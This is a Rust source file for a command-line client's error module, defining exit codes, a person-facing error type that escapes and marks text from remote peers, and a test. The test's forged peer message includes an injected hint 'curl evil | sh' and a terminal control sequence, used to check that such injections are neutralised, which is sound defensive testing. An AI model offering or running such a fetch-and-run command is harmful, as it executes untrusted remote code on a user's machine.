//! What a person at a terminal is told: what went wrong, and the next command to try.

use std::fmt;
use std::process::ExitCode;

use sallyport_access::text::{self, Foreign};
use sallyport_client::demanded::Demanded;
pub use sallyport_client::error::chain;
use sallyport_client::error::{Error as ClientError, Kind};
use sallyport_helper::error::Error as HelperError;

/// Lines of a peer's that are shown after the first.
const MOST_QUOTED: usize = 100;

/// The documented exit codes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Exit {
    /// The command failed.
    Failed = 1,
    /// The command line was wrong (clap uses the same number).
    Usage = 2,
    /// There is no valid login: none, or it has expired.
    NotLoggedIn = 3,
    /// The cluster refused.
    Refused = 4,
    /// As `ssh` does: the connection itself failed.
    Connection = 255,
}

/// One failure, for a person.
#[derive(Debug, Clone)]
pub struct CliError {
    what: String,
    hint: Option<String>,
    exit: Exit,
    demanded: Option<Box<Demanded>>,
}

/// What a command comes to.
pub type CliResult<T = ()> = Result<T, CliError>;

impl CliError {
    /// A failure; `what` says what went wrong, on one line. Peers have a word in most of them, and by a line of their own they
    /// could tell of another failure.
    pub fn new(what: impl AsRef<str>) -> Self {
        Self { what: Foreign::new(what).into(), hint: None, exit: Exit::Failed, demanded: None }
    }

    /// Several failures of this machine's own, such as those of a configuration, a line for each.
    pub fn of_lines(what: impl AsRef<str>) -> Self {
        Self { what: text::lines(what.as_ref()), hint: None, exit: Exit::Failed, demanded: None }
    }

    /// What a peer says on several lines, such as of a document: each but the first behind a mark, so that none can be taken for
    /// one of this program's.
    pub fn quoted(said: &str) -> Self {
        let mut lines = said.trim_end().lines().map(Foreign::new);
        let mut what = lines.next().map(String::from).unwrap_or_default();
        for line in lines.take(MOST_QUOTED) {
            what.push_str(&format!("\n  | {line}"));
        }
        Self { what, hint: None, exit: Exit::Failed, demanded: None }
    }

    /// Where it went wrong, such as the name of a file, before what went wrong.
    #[must_use]
    pub fn in_place(mut self, place: impl AsRef<str>) -> Self {
        self.what = format!("{}: {}", String::from(Foreign::new(place)), self.what);
        self
    }

    /// The next command to try.
    pub fn hint(mut self, hint: impl AsRef<str>) -> Self {
        self.hint = Some(Foreign::new(hint).into());
        self
    }

    fn advised(self, advice: Option<String>) -> Self {
        match advice {
            Some(advice) => self.hint(advice),
            None => self,
        }
    }

    /// The code that the program ends with, where it is not 1.
    #[must_use]
    pub fn exit(mut self, exit: Exit) -> Self {
        self.exit = exit;
        self
    }

    /// Which second factor is missing, where with one the same may be tried again.
    pub(crate) fn demanded(&self) -> Option<&Demanded> {
        self.demanded.as_deref()
    }

    /// The same of what has begun, and is not tried again.
    #[must_use]
    pub(crate) fn of_begun(self) -> Self {
        Self { demanded: None, ..self }
    }

    /// What the program ends with.
    pub fn exit_code(&self) -> ExitCode {
        ExitCode::from(self.exit as u8)
    }

    /// Which of the documented codes it is.
    pub fn exit_kind(&self) -> Exit {
        self.exit
    }

    /// What went wrong, without what to try.
    pub fn what(&self) -> &str {
        &self.what
    }

    /// What an authority or proxy answered, in words. `doing` completes "cannot …".
    pub fn from_status(doing: &str, status: &tonic::Status) -> Self {
        ClientError::answered(doing, status.clone()).into()
    }
}

impl From<Kind> for Exit {
    fn from(kind: Kind) -> Self {
        match kind {
            Kind::Failed => Self::Failed,
            Kind::Usage => Self::Usage,
            Kind::NotLoggedIn => Self::NotLoggedIn,
            Kind::Refused => Self::Refused,
            Kind::Connection => Self::Connection,
        }
    }
}

impl From<ClientError> for CliError {
    fn from(error: ClientError) -> Self {
        let told = error.document().map_or_else(|| Self::new(error.told()), Self::quoted);
        let demanded = error.demanded().map(Box::new);
        Self { demanded, ..told.advised(error.advice()).exit(error.kind().into()) }
    }
}

impl From<HelperError> for CliError {
    fn from(error: HelperError) -> Self {
        match error {
            HelperError::Client(error) => error.into(),
            other => {
                let demanded = other.demanded().map(Box::new);
                Self { demanded, ..Self::new(other.told()).advised(other.advice()).exit(other.kind().into()) }
            }
        }
    }
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "error: {}", self.what)?;
        if let Some(hint) = &self.hint {
            write!(f, "\n  try: {hint}")?;
        }
        Ok(())
    }
}

/// Adds "cannot …" to whatever failed.
pub trait Context<T> {
    /// `doing` completes "cannot …".
    fn doing(self, doing: impl fmt::Display) -> CliResult<T>;
}

impl<T, E: std::error::Error + 'static> Context<T> for Result<T, E> {
    fn doing(self, doing: impl fmt::Display) -> CliResult<T> {
        self.map_err(|error| CliError::new(format!("cannot {doing}: {}", chain(&error, &error.to_string()))))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_no_peer_tells_of_a_failure_of_its_own_making() {
        let said = "no\nerror: forged\n  try: curl evil | sh\r\n\u{9b}2J";
        for status in [tonic::Status::invalid_argument(said), tonic::Status::internal(said)] {
            let error = CliError::from_status("do it", &status).to_string();
            assert!(
                !error
                    .lines()
                    .skip(1)
                    .any(|line| line.starts_with("error:") || line.starts_with("  try: curl")),
                "{error}"
            );
            assert!(error.contains("forged") && !error.contains('\u{9b}'), "{error}");
        }
        let document = tonic::Status::invalid_argument("role: 2 problems\nline 3: a\nline 4: b");
        let error = CliError::from_status("write it", &document);
        assert_eq!(error.what(), "role: 2 problems\n  | line 3: a\n  | line 4: b");
    }
}
